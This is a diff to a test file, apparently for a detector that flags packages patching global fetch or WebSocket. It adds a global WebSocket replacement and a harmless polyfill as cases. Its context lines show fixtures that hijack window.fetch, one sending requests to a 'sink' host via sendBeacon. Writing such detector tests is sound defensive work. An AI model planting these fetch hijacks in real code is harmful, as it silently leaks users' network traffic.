@@ -8,6 +8,11 @@ const RECORDER = `const real = window.fetch; exports.record = () => { window.fet
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'the socket of everybody is given another form, whatever was there',
+      files: { 'index.js': `const client = require('ws'); const all = global; all.WebSocket = client || all.WebSocket;` },
+      weight: 'weak',
+    },
+    {
       when: 'a file that nothing loads offers to record what pages ask for',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
@@ -227,6 +232,12 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
     },
   ],
   silent: [
+    {
+      when: 'what is lacking is given to all, and nothing that is there is taken away',
+      files: {
+        'index.js': `const client = require('ws'); const all = global; all.WebSocket ||= client; all.fetch ??= require('node-fetch');`,
+      },
+    },
     {
       when: 'a function of another package is exchanged for one that asks the cloud what the machine is',
       files: {
